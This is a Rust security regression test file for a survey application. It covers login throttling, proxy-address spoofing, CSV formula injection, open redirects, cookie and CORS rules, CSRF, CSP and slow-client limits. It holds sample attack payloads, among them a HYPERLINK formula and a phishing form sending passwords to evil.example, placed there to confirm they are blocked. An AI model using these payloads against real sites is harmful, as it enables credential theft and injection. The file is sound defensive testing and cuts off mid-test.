//! Issue #13, tried as an attacker would, on both backends: each test reproduces an attack and
//! asserts that it no longer works. (Accounts so far: set-up, the login throttle.)

use crate::common;

use common::{ADMIN_EMAIL, ADMIN_PASSWORD, Client, TestApp};
use futures_util::future::join_all;
use hearken::accounts::{LOGIN_FAILURE_LIMIT, NewUser};
use serde_json::json;

/// `count` clients from `address`, each sending one login with `password` at once; answers the
/// statuses.
async fn burst(
    app: &TestApp,
    address: &str,
    email: &str,
    password: &str,
    count: usize,
) -> Vec<u16> {
    let mut clients: Vec<Client> = (0..count)
        .map(|_| {
            let mut c = app.client();
            c.address = address.into();
            c
        })
        .collect();
    join_all(clients.iter_mut().map(|c| async move {
        c.post(
            "/api/v1/auth/login",
            json!({"email": email, "password": password}),
        )
        .await
        .status
    }))
    .await
}

async fn login_from(app: &TestApp, address: &str, email: &str, password: &str) -> common::Response {
    let mut client = app.client();
    client.address = address.into();
    client
        .post(
            "/api/v1/auth/login",
            json!({"email": email, "password": password}),
        )
        .await
}

backend_test!(
    set_up_once_done_answers_409_before_it_reads_the_password,
    |app| async move {
        app.admin().await;
        let mut stranger = app.client();
        // A password too weak to hash: once set up, the host does not get that far.
        let res = stranger
            .post(
                "/api/v1/setup",
                json!({"email": "mallory@example.com", "password": "x"}),
            )
            .await;
        assert_eq!(res.status, 409, "{}", res.body);
        assert_eq!(res.message(), "Hearken is already set up: sign in instead.");
        // Nor does it throttle (or hash) a flood of them: each is a cheap 409.
        for _ in 0..30 {
            let res = stranger
                .post(
                    "/api/v1/setup",
                    json!({"email": "mallory@example.com", "password": "password-123"}),
                )
                .await;
            assert_eq!(res.status, 409);
        }
    }
);

backend_test!(
    an_administrator_made_on_the_command_line_closes_set_up,
    |app| async move {
        // An editor alone leaves set-up open; `hearken user add --role administrator` closes it.
        let add = |email: &str, role: &str| NewUser {
            email: email.into(),
            name: String::new(),
            password: "password-123".into(),
            role: Some(role.into()),
        };
        hearken::accounts::create_user(&app.db, add("ed@example.com", "editor"))
            .await
            .unwrap();
        let mut browser = app.client();
        assert_eq!(browser.get("/api/v1/setup").await.body["needed"], true);
        hearken::accounts::create_user(&app.db, add("root@example.com", "administrator"))
            .await
            .unwrap();
        assert_eq!(browser.get("/api/v1/setup").await.body["needed"], false);
        let res = browser
            .post(
                "/api/v1/setup",
                json!({"email": "new@example.com", "password": "password-123"}),
            )
            .await;
        assert_eq!(res.status, 409);
    }
);

backend_test!(
    set_up_with_only_an_editor_creates_the_administrator,
    |app| async move {
        let editor = NewUser {
            email: "ed@example.com".into(),
            name: String::new(),
            password: "password-123".into(),
            role: Some("editor".into()),
        };
        hearken::accounts::create_user(&app.db, editor)
            .await
            .unwrap();
        let mut browser = app.client();
        let taken = browser
            .post(
                "/api/v1/setup",
                json!({"email": "ed@example.com", "password": "password-123"}),
            )
            .await;
        assert_eq!(taken.status, 422);
        assert_eq!(
            taken.body["fields"]["email"],
            "An account with the e-mail address ed@example.com already exists."
        );
        let ok = browser
            .post(
                "/api/v1/setup",
                json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}),
            )
            .await;
        assert_eq!(ok.status, 201, "{}", ok.body);
        assert_eq!(browser.get("/api/v1/setup").await.body["needed"], false);
    }
);

backend_test!(
    set_up_attempts_are_throttled_per_address,
    |app| async move {
        let mut attacker = app.client();
        attacker.address = "198.51.100.20".into();
        for _ in 0..10 {
            let res = attacker
                .post(
                    "/api/v1/setup",
                    json!({"email": "not-an-address", "password": "password-123"}),
                )
                .await;
            assert_eq!(res.status, 422);
        }
        let res = attacker
            .post(
                "/api/v1/setup",
                json!({"email": "a@example.com", "password": "password-123"}),
            )
            .await;
        assert_eq!(res.status, 429);
        assert_eq!(
            res.message(),
            "Too many set-up attempts from your address; please try again in a minute."
        );
        assert!(res.headers.get("retry-after").is_some());
        // Set-up stays open to the operator at another address.
        let mut operator = app.client();
        operator.address = "198.51.100.21".into();
        let ok = operator
            .post(
                "/api/v1/setup",
                json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}),
            )
            .await;
        assert_eq!(ok.status, 201);
    }
);

backend_test!(
    a_parallel_burst_of_guesses_gets_no_more_than_the_limit,
    |app| async move {
        app.admin().await;
        let statuses = burst(&app, "198.51.100.30", ADMIN_EMAIL, "guess-guess", 30).await;
        assert!(
            statuses.iter().all(|s| *s == 401 || *s == 429),
            "{statuses:?}"
        );
        // Refused attempts were not guesses and do not count; the guesses that got a check do.
        // Whatever the burst got, the address gets no more than the limit in all.
        let mut guesses = statuses.iter().filter(|s| **s == 401).count() as i64;
        loop {
            let res = login_from(&app, "198.51.100.30", ADMIN_EMAIL, "guess-guess").await;
            if res.status == 429 {
                break;
            }
            assert_eq!(res.status, 401);
            guesses += 1;
        }
        assert!(
            guesses <= LOGIN_FAILURE_LIMIT,
            "{guesses} guesses got through: {statuses:?}"
        );
        let right = login_from(&app, "198.51.100.30", ADMIN_EMAIL, ADMIN_PASSWORD).await;
        assert_eq!(right.status, 429, "the address is locked out");
    }
);

backend_test!(
    guesses_from_many_addresses_meet_the_accounts_limit,
    |app| async move {
        app.admin().await;
        for i in 0..10 {
            let res = login_from(
                &app,
                &format!("198.51.100.{}", 100 + i),
                ADMIN_EMAIL,
                "guess-guess",
            )
            .await;
            assert_eq!(res.status, 401);
        }
        // Case and spaces do not make another account.
        let res = login_from(&app, "198.51.100.200", " Admin@Example.com ", "guess-guess").await;
        assert_eq!(res.status, 429, "{}", res.body);
        assert!(
            res.message()
                .starts_with("Too many failed sign-in attempts for this account."),
            "{}",
            res.message()
        );
        let right = login_from(&app, "198.51.100.201", ADMIN_EMAIL, ADMIN_PASSWORD).await;
        assert_eq!(right.status, 429, "the account is locked for a while");
        // Another account from the same address is not.
        let other = login_from(&app, "198.51.100.200", "someone@example.com", "guess-guess").await;
        assert_eq!(other.status, 401);
    }
);

backend_test!(
    a_success_clears_only_its_own_accounts_failures,
    |app| async move {
        let mut admin = app.admin().await;
        admin
            .post(
                "/api/v1/users",
                json!({"email": "accomplice@example.com", "password": "password-123", "role": "editor"}),
            )
            .await;
        let address = "198.51.100.40";
        for _ in 0..4 {
            let res = login_from(&app, address, ADMIN_EMAIL, "guess-guess").await;
            assert_eq!(res.status, 401);
        }
        // The attacker's own account signs in from the same address…
        let own = login_from(&app, address, "accomplice@example.com", "password-123").await;
        assert_eq!(own.status, 200);
        // … which does not give the address new guesses at the administrator.
        let fifth = login_from(&app, address, ADMIN_EMAIL, "guess-guess").await;
        assert_eq!(fifth.status, 401);
        let sixth = login_from(&app, address, ADMIN_EMAIL, "guess-guess").await;
        assert_eq!(sixth.status, 429);
        // The administrator's own success clears the administrator's failures.
        let elsewhere = login_from(&app, "198.51.100.41", ADMIN_EMAIL, ADMIN_PASSWORD).await;
        assert_eq!(elsewhere.status, 200);
    }
);

/// Five failed sign-ins, each claiming another address in the entries the client writes, then
/// the right password: throttled all the same when the host reads the address the proxy saw.
async fn spoofing_attacker_is_throttled(app: &TestApp, proxies_append: &str) {
    app.admin().await;
    for i in 0..LOGIN_FAILURE_LIMIT {
        let chain = format!("203.0.113.{i}, {proxies_append}");
        let res = login_from(app, &chain, ADMIN_EMAIL, "guess-guess").await;
        assert_eq!(res.status, 401);
    }
    let chain = format!("203.0.113.99, {proxies_append}");
    let res = login_from(app, &chain, ADMIN_EMAIL, ADMIN_PASSWORD).await;
    assert_eq!(res.status, 429, "{}", res.body);
}

backend_test!(
    the_client_cannot_choose_its_address_in_x_forwarded_for,
    |app| async move {
        // One appending proxy: the rightmost entry is the client as the proxy saw it.
        spoofing_attacker_is_throttled(&app, "198.51.100.60").await;
    }
);

backend_test!(
    trusted_proxies_are_skipped_from_the_right,
    config = |c: &mut hearken::Config| c.trusted_proxies = vec!["10.0.0.0/8".parse().unwrap()],
    |app| async move {
        // A CDN edge appended the client, the internal load balancer (10.x, trusted) the edge.
        spoofing_attacker_is_throttled(&app, "198.51.100.61, 10.0.0.5").await;
    }
);

backend_test!(
    a_question_title_cannot_run_a_formula_in_the_csv_export,
    |app| async move {
        let mut admin = app.admin().await;
        admin.license(hearken::licensing::Tier::Pro).await;
        let res = admin
            .post(
                "/api/v1/surveys",
                json!({"id": null, "title": "Export", "status": "publish", "questions": [
                    {"id": "t", "type": "long-text", "title": "=HYPERLINK(\"https://evil.example\",\"Open\")"}
                ]}),
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
        let id = res.body["survey"]["id"].as_i64().unwrap();
        let (status, _, bytes) = admin
            .get_raw(&format!("/api/v1/exports?survey_id={id}&format=csv"))
            .await;
        assert_eq!(status, 200);
        let text = String::from_utf8(bytes).unwrap();
        let header = text
            .trim_start_matches('\u{feff}')
            .lines()
            .next()
            .unwrap()
            .to_owned();
        assert!(
            header.ends_with(
                ",\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"Open\"\")\",Language,complete"
            ),
            "{header}"
        );
    }
);

backend_test!(
    a_backslash_path_is_not_a_url_on_this_site,
    |app| async move {
        // Browsers read `/\evil.example` as `//evil.example`: an open redirect through any URL
        // setting that takes site-relative paths.
        let mut admin = app.admin().await;
        for bad in ["/\\evil.example", "/\\/evil.example"] {
            let res = admin
                .post(
                    "/api/v1/settings",
                    json!({"notifications_header_image": bad}),
                )
                .await;
            assert_eq!(res.status, 422, "{bad}: {}", res.body);
        }
        let ok = admin
            .post(
                "/api/v1/settings",
                json!({"notifications_header_image": "/logo.png"}),
            )
            .await;
        assert_eq!(ok.status, 200, "{}", ok.body);
    }
);

backend_test!(
    the_largest_nps_comments_page_is_an_empty_page,
    |app| async move {
        let mut admin = app.admin().await;
        admin.license(hearken::licensing::Tier::Pro).await;
        let res = admin
            .upload(
                "/api/v1/addons/upload?activate=true",
                &common::addon_package("question-types"),
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
        let res = admin
            .post(
                "/api/v1/surveys",
                json!({"id": null, "title": "NPS", "type": "nps", "status": "publish", "questions": [
                    {"id": "n", "type": "nps", "title": "Recommend us?", "settings": {"comment_box": true}}
                ]}),
            )
            .await;
        let id = res.body["survey"]["id"].as_i64().unwrap();
        let nonce = app.submission_nonce(id).await;
        let mut visitor = app.client();
        let sent = visitor
            .post(
                &format!("/api/v1/surveys/{id}/responses"),
                json!({"answers": [{"question_id": "n", "value": 9, "extra": {"comments": "Great"}}], "page_submitted": {}, "nonce": nonce}),
            )
            .await;
        assert_eq!(sent.status, 201, "{}", sent.body);
        let last = admin
            .get(&format!(
                "/api/v1/surveys/{id}/nps-comments?page={}",
                i64::MAX
            ))
            .await;
        assert_eq!(last.status, 200, "{}", last.body);
        assert_eq!(last.body["items"], json!([]));
        assert_eq!(last.body["pagination"]["total"], 1);
        let first = admin
            .get(&format!("/api/v1/surveys/{id}/nps-comments"))
            .await;
        assert_eq!(first.body["items"][0]["comment"], "Great");
        assert_eq!(first.body["items"][0]["score"], 9);
    }
);

backend_test!(
    behind_https_the_session_cookie_is_secure_and_host_only,
    config = |c: &mut hearken::Config| c.public_url = "https://surveys.example.com".into(),
    |app| async move {
        let mut browser = app.client();
        let res = browser
            .post(
                "/api/v1/setup",
                json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}),
            )
            .await;
        assert_eq!(res.status, 201);
        let set = res.headers["set-cookie"].to_str().unwrap().to_owned();
        assert!(set.starts_with("__Host-hearken_session="), "{set}");
        assert!(
            set.contains("; Secure") && set.contains("Path=/") && !set.contains("Domain"),
            "{set}"
        );
        let token = set
            .strip_prefix("__Host-hearken_session=")
            .and_then(|rest| rest.split(';').next())
            .unwrap()
            .to_owned();
        let mut reader = app.client();
        let me = reader
            .send_full(
                axum::http::Method::GET,
                "/api/v1/auth/me",
                None,
                &[("cookie", &format!("__Host-hearken_session={token}"))],
            )
            .await;
        assert_eq!(me.status, 200, "{}", me.body);
        // A cookie without the prefix (one a plain-http page or a subdomain could set) is not read.
        let shadow = reader
            .send_full(
                axum::http::Method::GET,
                "/api/v1/auth/me",
                None,
                &[("cookie", &format!("hearken_session={token}"))],
            )
            .await;
        assert_eq!(shadow.status, 401);
        // Signing out ends the session the prefixed cookie names.
        let nonce = res.body["nonce"].as_str().unwrap().to_owned();
        let cookie = format!("__Host-hearken_session={token}");
        let out = reader
            .send_full(
                axum::http::Method::POST,
                "/api/v1/auth/logout",
                Some("{}".into()),
                &[("cookie", &cookie), ("x-hearken-nonce", &nonce)],
            )
            .await;
        assert_eq!(out.status, 200, "{}", out.body);
        let after = reader
            .send_full(
                axum::http::Method::GET,
                "/api/v1/auth/me",
                None,
                &[("cookie", &cookie)],
            )
            .await;
        assert_eq!(after.status, 401);
    }
);

backend_test!(
    only_a_successful_admin_write_reloads_the_visitor_snapshot,
    |app| async move {
        let mut admin = app.admin().await;
        let before = app.state.visitors.generation();
        let mut stranger = app.client();
        // Anyone can send these; none of them may make every visitor's next request reload.
        assert_eq!(
            stranger.post("/api/v1/surveys", json!({})).await.status,
            401
        );
        assert_eq!(
            stranger
                .post("/api/v1/no-such-thing", json!({}))
                .await
                .status,
            404
        );
        let failed = login_from(&app, "198.51.100.90", ADMIN_EMAIL, "guess-guess").await;
        assert_eq!(failed.status, 401);
        let invalid = admin
            .post("/api/v1/settings", json!({"widget_position": "nowhere"}))
            .await;
        assert_eq!(invalid.status, 422);
        assert_eq!(app.state.visitors.generation(), before);
        let saved = admin
            .post(
                "/api/v1/settings",
                json!({"widget_position": "bottom_left"}),
            )
            .await;
        assert_eq!(saved.status, 200, "{}", saved.body);
        assert!(app.state.visitors.generation() > before);
    }
);

backend_test!(
    with_site_origins_set_another_sites_page_is_refused,
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .post(
                "/api/v1/settings",
                json!({"widget_allowed_origins": "https://shop.example"}),
            )
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        let mut visitor = app.client();
        let other = visitor
            .send_with_origin(
                axum::http::Method::GET,
                "/api/v1/widget/survey",
                "https://evil.example",
            )
            .await;
        assert_eq!(other.status, 403);
        assert_eq!(other.code(), "origin_not_allowed");
        assert_eq!(
            other.message(),
            "This site is not allowed to show Hearken surveys."
        );
        let preflight = visitor
            .send_with_origin(
                axum::http::Method::OPTIONS,
                "/api/v1/surveys/1/responses",
                "https://evil.example",
            )
            .await;
        assert_eq!(preflight.status, 403);
        let own = visitor
            .send_with_origin(
                axum::http::Method::GET,
                "/api/v1/widget/survey",
                "https://shop.example",
            )
            .await;
        assert_eq!(own.status, 200);
        assert_eq!(
            own.headers["access-control-allow-origin"],
            "https://shop.example"
        );
        // No Origin at all (not a browser's cross-site call): answered, without CORS.
        assert_eq!(visitor.get("/api/v1/widget/survey").await.status, 200);
    }
);

backend_test!(
    an_ipv6_visitor_cannot_escape_the_limit_by_changing_its_last_64_bits,
    config = |c: &mut hearken::Config| c.visitor_rate_limit = 2,
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .post("/api/v1/surveys", common::valid_survey("Rate"))
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
        let id = res.body["survey"]["id"].as_i64().unwrap();
        let question = res.body["survey"]["questions"][0]["id"].clone();
        let answer = json!([{"question_id": question, "value": "Well"}]);
        let mut statuses = Vec::new();
        for host in 1..=3 {
            let mut visitor = app.client();
            visitor.address = format!("2001:db8:7:7::{host}");
            let nonce = app.submission_nonce(id).await;
            let sent = visitor
                .post(
                    &format!("/api/v1/surveys/{id}/responses"),
                    json!({"answers": answer, "page_submitted": {}, "nonce": nonce}),
                )
                .await;
            statuses.push(sent.status);
        }
        assert_eq!(statuses, [201, 201, 429]);
        // Another /64 has its own budget.
        let mut neighbour = app.client();
        neighbour.address = "2001:db8:7:8::1".into();
        let nonce = app.submission_nonce(id).await;
        let sent = neighbour
            .post(
                &format!("/api/v1/surveys/{id}/responses"),
                json!({"answers": answer, "page_submitted": {}, "nonce": nonce}),
            )
            .await;
        assert_eq!(sent.status, 201, "{}", sent.body);
    }
);

/// A development key, as anyone can mint it with the public seed in the repository.
fn development_key(tier: hearken::licensing::Tier) -> String {
    hearken::licensing::MintRequest {
        tier,
        expires: None,
        disabled: false,
    }
    .mint_dev()
}

backend_test!(
    a_production_server_refuses_keys_of_the_development_issuer,
    config = |c: &mut hearken::Config| c.dev = false,
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .post(
                "/api/v1/license/verify",
                json!({"key": development_key(hearken::licensing::Tier::Elite)}),
            )
            .await;
        assert_eq!(res.status, 422, "{}", res.body);
        let config = admin.get("/api/v1/config").await;
        assert_eq!(config.body["license_type"], "lite");
        assert_eq!(config.body["dev_mode"], false);
        // No SMTP server: the admin says e-mails wait (the SMTP test sees `true`).
        assert_eq!(config.body["mail_configured"], false);
    }
);

backend_test!(
    an_operator_key_is_trusted_without_development_mode,
    config = |c: &mut hearken::Config| {
        use base64::Engine;
        c.dev = false;
        let issuer = ed25519_dalek::SigningKey::from_bytes(&[42; 32]);
        c.license_public_keys = Some(
            base64::engine::general_purpose::STANDARD.encode(issuer.verifying_key().to_bytes()),
        );
    },
    |app| async move {
        let issuer = ed25519_dalek::SigningKey::from_bytes(&[42; 32]);
        let request = hearken::licensing::MintRequest {
            tier: hearken::licensing::Tier::Pro,
            expires: None,
            disabled: false,
        };
        let key = hearken::licensing::mint(&issuer, &request, chrono::Utc::now().date_naive());
        let mut admin = app.admin().await;
        let res = admin
            .post("/api/v1/license/verify", json!({"key": key}))
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        assert_eq!(
            admin.get("/api/v1/config").await.body["license_type"],
            "pro"
        );
    }
);

backend_test!(
    development_mode_is_announced_to_the_admin,
    |app| async move {
        let mut admin = app.admin().await;
        assert_eq!(admin.get("/api/v1/config").await.body["dev_mode"], true);
    }
);

#[test]
fn minting_a_key_needs_the_issuers_private_key_file() {
    let bin = env!("CARGO_BIN_EXE_hearken");
    let data = tempfile::tempdir().unwrap();
    let without = std::process::Command::new(bin)
        .args(["license", "mint", "--tier", "elite", "--data-dir"])
        .arg(data.path())
        .env_remove("HEARKEN_LICENSE_ISSUER_KEY")
        .output()
        .unwrap();
    assert!(!without.status.success());
    let stderr = String::from_utf8_lossy(&without.stderr);
    assert!(stderr.contains("--key-file"), "{stderr}");
    assert!(without.stdout.is_empty());

    let seed =
        common::workspace_root().join("host/dev-keys/DEVELOPMENT-ONLY-license-issuer.seed.hex");
    let with = std::process::Command::new(bin)
        .args(["license", "mint", "--tier", "elite", "--key-file"])
        .arg(&seed)
        .output()
        .unwrap();
    assert!(
        with.status.success(),
        "{}",
        String::from_utf8_lossy(&with.stderr)
    );
    assert!(String::from_utf8_lossy(&with.stdout).starts_with("HKN1."));

    let wrong = data.path().join("not-a-key");
    std::fs::write(&wrong, "hello").unwrap();
    let refused = std::process::Command::new(bin)
        .args(["license", "mint", "--tier", "elite", "--key-file"])
        .arg(&wrong)
        .output()
        .unwrap();
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("is not an issuer key"));
}

backend_test!(
    a_cross_site_request_cannot_spend_the_ai_providers_money,
    |app| async move {
        let mut admin = app.admin().await;
        admin.license(hearken::licensing::Tier::Pro).await;
        let res = admin
            .post(
                "/api/v1/surveys",
                json!({"id": null, "title": "Ask", "status": "publish", "questions": [
                    {"id": "t", "type": "long-text", "title": "Anything else?"}
                ]}),
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
        let id = res.body["survey"]["id"].as_i64().unwrap();
        let question = res.body["survey"]["questions"][0]["id"].clone();
        let nonce = app.submission_nonce(id).await;
        let sent = app
            .client()
            .post(
                &format!("/api/v1/surveys/{id}/responses"),
                json!({"answers": [{"question_id": question, "value": "Checkout is slow"}], "page_submitted": {}, "nonce": nonce}),
            )
            .await;
        assert_eq!(sent.status, 201, "{}", sent.body);
        let (url, seen) = common::ai::openai_mock((
            200,
            json!({"choices": [{"message": {"role": "assistant", "content": "Fine."}}]}),
        ))
        .await;
        let res = admin
            .post(
                "/api/v1/settings",
                json!({"ai_summary_endpoint": url, "ai_summary_api_key": "sk-test"}),
            )
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        let path = format!("/api/v1/ai-summary/{id}");

        // A link or an image on another site sends a GET with the cookie: it only reads.
        let read = admin.get(&path).await;
        assert_eq!(read.status, 200, "{}", read.body);
        assert_eq!(read.body["summary"], serde_json::Value::Null);
        // A forged form sends a POST with the cookie but cannot know the nonce.
        let nonce = admin.nonce.take();
        let forged = admin.post(&path, json!({})).await;
        assert_eq!(forged.status, 403, "{}", forged.body);
        admin.nonce = nonce;
        assert!(seen.lock().await.is_empty(), "the provider was called");

        // The admin's own generations: one, then a cooldown.
        let made = admin.post(&path, json!({})).await;
        assert_eq!(made.body["summary"], "Fine.", "{}", made.body);
        let again = admin.post(&path, json!({})).await;
        assert_eq!(again.status, 429, "{}", again.body);
        assert_eq!(again.body["code"], "too_many_requests");
        let wait: u64 = again.headers["retry-after"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((1..=60).contains(&wait), "{wait}");
        assert_eq!(seen.lock().await.len(), 1);
        assert_eq!(admin.get(&path).await.body["summary"], "Fine.");
    }
);

backend_test!(
    the_admin_cannot_be_framed_or_run_inline_script,
    |app| async move {
        let mut browser = app.client();
        let page = browser.get("/admin/").await;
        let csp = page.headers["content-security-policy"].to_str().unwrap();
        for directive in [
            "script-src 'self'",
            "frame-ancestors 'none'",
            "object-src 'none'",
            "base-uri 'none'",
        ] {
            assert!(csp.contains(directive), "{csp}");
        }
        assert!(!csp.contains("unsafe-eval"), "{csp}");
        let script = csp
            .split(';')
            .find(|d| d.trim().starts_with("script-src"))
            .unwrap();
        assert!(!script.contains("unsafe-inline"), "{csp}");
        assert_eq!(page.headers["x-frame-options"], "DENY");
        let api = browser.get("/api/v1/setup").await;
        assert_eq!(api.headers["x-frame-options"], "DENY");
        assert_eq!(api.headers["x-content-type-options"], "nosniff");
    }
);

backend_test!(
    an_add_on_cannot_plant_a_page_that_runs_as_this_site,
    |app| async move {
        let mut admin = app.admin().await;
        admin.license(hearken::licensing::Tier::Pro).await;
        let dir = tempfile::tempdir().unwrap();
        let probe = common::workspace_root().join("host/tests/addons/probe/addon.toml");
        std::fs::copy(probe, dir.path().join("addon.toml")).unwrap();
        std::fs::create_dir_all(dir.path().join("assets")).unwrap();
        std::fs::write(
            dir.path().join("assets/login.html"),
            "<form action=https://evil.example/steal><input name=password></form><script>fetch('/api/v1/users')</script>",
        )
        .unwrap();
        std::fs::write(
            dir.path().join("assets/logo.svg"),
            "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('/api/v1/users')</script></svg>",
        )
        .unwrap();
        let (_, wasm) = common::addon_sources("probe");
        let (_, bytes) = hearken::addons::package::pack(dir.path(), Some(&wasm)).unwrap();
        let bytes = common::signed(&bytes);
        let res = admin
            .upload("/api/v1/addons/upload?activate=true", &bytes)
            .await;
        assert_eq!(res.status, 201, "{}", res.body);

        let mut browser = app.client();
        let page = browser.get("/addons/probe/assets/login.html").await;
        assert_eq!(page.status, 200);
        assert_eq!(page.headers["content-disposition"], "attachment");
        let svg = browser.get("/addons/probe/assets/logo.svg").await;
        let csp = svg.headers["content-security-policy"].to_str().unwrap();
        assert!(csp.starts_with("sandbox"), "{csp}");
        assert!(csp.contains("default-src 'none'"), "{csp}");
    }
);

/// Starts the real listening loop on loopback with short limits; answers its address.
async fn serve_with_short_limits(app: &TestApp) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let limits = hearken::http::server::Limits {
        header_read: std::time::Duration::from_millis(400),
        body_read: std::time::Duration::from_millis(400),
        shutdown_grace: std::time::Duration::from_secs(1),
    };
    let router = app.router.clone();
    tokio::spawn(hearken::http::server::serve(
        listener,
        router,
        limits,
        std::future::pending(),
    ));
    address
}

/// Everything the server sends until it closes the connection (at most 5 s).
async fn read_until_closed(stream: &mut tokio::net::TcpStream) -> String {
    use tokio::io::AsyncReadExt;
    let mut received = Vec::new();
    let read = tokio::time::timeout(
        std::time::Duration::from_secs(5),
        stream.read_to_end(&mut received),
    )
    .await;
    assert!(
        read.is_ok(),
        "the server kept a slow client's connection open"
    );
    String::from_utf8_lossy(&received).into_owned()
}

#[tokio::test]
async fn slow_clients_cannot_hold_connections_open() {
    use tokio::io::AsyncWriteExt;
    let app = TestApp::start(common::Backend::Sqlite).await.unwrap();
    let address = serve_with_short_limits(&app).await;

    // A fast client is served.
    let mut fast = tokio::net::TcpStream::connect(address).await.unwrap();
    fast.write_all(b"GET /healthz HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n")
        .await
        .unwrap();
    assert!(
        read_until_closed(&mut fast)
            .await
            .starts_with("HTTP/1.1 200")
    );

    // A connection that never sends a byte is closed.
    let mut idle = tokio::net::TcpStream::connect(address).await.unwrap();
    let started = std::time::Instant::now();
    read_until_closed(&mut idle).await;
    assert!(started.elapsed() < std::time::Duration::from_secs(3));

    // Headers that trickle in are cut off.
    let mut trickle = tokio::net::TcpStream::connect(address).await.unwrap();
    trickle
        .write_all(b"GET /healthz HTTP/1.1\r\n")
        .await
        .unwrap();
    for _ in 0..3 {
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        if trickle.write_all(b"x-slow: 1\r\n").await.is_err() {
            break;
        }
    }
    let answer = read_until_closed(&mut trickle).await;
    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");

    // A body that never finishes gets an answer, not a held connection.
    let mut body = tokio::net::TcpStream::connect(address).await.unwrap();
    body.write_all(
        b"POST /api/v1/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{\"email\":",
    )
    .await
    .unwrap();
    let answer = read_until_closed(&mut body).await;
    let status: u16 = answer.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
    assert!(
        status == 0 || (400..500).contains(&status),
        "a slow body must not be a server error: {answer}"
    );
}

// Item 5: users can be managed, and a change that should end sessions does.

/// The id of the account with `email`, as the administrator lists it.
async fn user_id(admin: &mut Client, email: &str) -> i64 {
    let users = admin.get("/api/v1/users").await.body;
    users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["email"] == email)
        .unwrap_or_else(|| panic!("{email} is not listed: {users}"))["id"]
        .as_i64()
        .unwrap()
}

async fn add_editor(admin: &mut Client, email: &str, password: &str) -> i64 {
    let res = admin
        .post(
            "/api/v1/users",
            json!({"email": email, "password": password, "role": "editor"}),
        )
        .await;
    assert_eq!(res.status, 201, "{}", res.body);
    res.body["id"].as_i64().unwrap()
}

async fn signed_in(app: &TestApp, email: &str, password: &str) -> Client {
    let mut client = app.client();
    let res = client
        .post(
            "/api/v1/auth/login",
            json!({"email": email, "password": password}),
        )
        .await;
    assert_eq!(res.status, 200, "{email}: {}", res.body);
    client
}

backend_test!(
    a_disabled_user_is_signed_out_and_cannot_sign_in,
    |app| async move {
        let mut admin = app.admin().await;
        let id = add_editor(&mut admin, "eve@example.com", "password-123").await;
        let mut eve = signed_in(&app, "eve@example.com", "password-123").await;
        assert_eq!(eve.get("/api/v1/auth/me").await.status, 200);

        let res = admin
            .post(&format!("/api/v1/users/{id}/disable"), json!({}))
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        assert_eq!(res.body["disabled"], true);
        assert_eq!(eve.get("/api/v1/auth/me").await.status, 401);
        let again = login_from(&app, "198.51.100.9", "eve@example.com", "password-123").await;
        assert_eq!(again.status, 401);
        assert_eq!(again.body["code"], "account_disabled");

        let res = admin
            .post(&format!("/api/v1/users/{id}/enable"), json!({}))
            .await;
        assert_eq!(res.body["disabled"], false);
        signed_in(&app, "eve@example.com", "password-123").await;
    }
);

backend_test!(a_password_reset_ends_the_users_sessions, |app| async move {
    let mut admin = app.admin().await;
    let id = add_editor(&mut admin, "eve@example.com", "password-123").await;
    let mut eve = signed_in(&app, "eve@example.com", "password-123").await;
    let short = admin
        .post(
            &format!("/api/v1/users/{id}/password"),
            json!({"password": "short"}),
        )
        .await;
    assert_eq!(short.status, 422);
    assert_eq!(
        eve.get("/api/v1/auth/me").await.status,
        200,
        "a refused reset changes nothing"
    );

    let res = admin
        .post(
            &format!("/api/v1/users/{id}/password"),
            json!({"password": "another-password"}),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(eve.get("/api/v1/auth/me").await.status, 401);
    let old = login_from(&app, "198.51.100.9", "eve@example.com", "password-123").await;
    assert_eq!(old.status, 401);
    signed_in(&app, "eve@example.com", "another-password").await;
    // The administrator's own session was not touched.
    assert_eq!(admin.get("/api/v1/auth/me").await.status, 200);
});

backend_test!(
    changing_your_own_password_ends_your_other_sessions,
    |app| async move {
        let mut admin = app.admin().await;
        let mut elsewhere = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
        let wrong = admin
            .post(
                "/api/v1/auth/password",
                json!({"current_password": "not it at all", "password": "a new password"}),
            )
            .await;
        assert_eq!(wrong.status, 422, "{}", wrong.body);
        assert_eq!(
            wrong.body["fields"]["current_password"],
            "The current password is not right."
        );
        let res = admin
            .post(
                "/api/v1/auth/password",
                json!({"current_password": ADMIN_PASSWORD, "password": "a new password"}),
            )
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        assert_eq!(admin.get("/api/v1/auth/me").await.status, 200);
        assert_eq!(elsewhere.get("/api/v1/auth/me").await.status, 401);
        signed_in(&app, ADMIN_EMAIL, "a new password").await;
    }
);

backend_test!(
    the_last_active_administrator_cannot_be_removed,
    |app| async move {
        let mut admin = app.admin().await;
        let me = user_id(&mut admin, ADMIN_EMAIL).await;
        for (method, path, body) in [
            ("POST", format!("/api/v1/users/{me}/disable"), json!({})),
            (
                "POST",
